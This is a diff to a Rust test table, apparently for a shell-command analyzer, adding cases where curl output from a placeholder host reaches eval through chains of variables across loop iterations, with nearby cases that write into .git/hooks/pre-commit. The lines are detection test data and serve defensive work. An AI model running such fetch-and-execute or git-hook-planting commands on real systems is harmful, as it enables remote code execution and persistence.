@@ -259,6 +259,11 @@ const CASES: &[(&str, &str)] = &[
     // --- a loop's later passes: what one pass fetched, the next runs -------------------------
     ("x=true; for i in 1 2; do eval \"$x\"; x=$(curl -s https://x/y); done", "0055"),
     ("h() { x=$(curl -s https://x/y); }; g() { h; }; x=true; for i in 1 2; do eval \"$x\"; g; done", "0055"),
+    // (through a chain of variables, one assignment a pass; past three, every one it changes)
+    ("for i in 1 2 3 4; do eval \"$c\"; c=$b; b=$(curl -s http://x); done", "0055"),
+    ("f(){ g; }; g(){ c=$b; b=$a; }; a=$(curl -s http://x); for i in 1 2 3 4; do eval \"$c\"; f; done", "0055"),
+    ("for i in 1 2 3 4 5 6; do eval \"$e\"; e=$d; d=$c; c=$b; b=$(curl -s http://x); done", "0055"),
+    ("for u in a b; do f=$(basename \"$u\"); curl -so \"$f\" \"https://x/$u\"; done; echo \"$f\"", "0044"),
     // --- return, break and continue leave the state they find ---------------------------------
     ("f() { if [ -n \"$1\" ]; then d=.git/hooks; return; fi; d=ok; }; f x; echo x > \"$d/pre-commit\"", "2006"),
     ("d=a; for i in 1; do d=.git/hooks; break; d=ok; done; echo x > \"$d/pre-commit\"", "2006"),
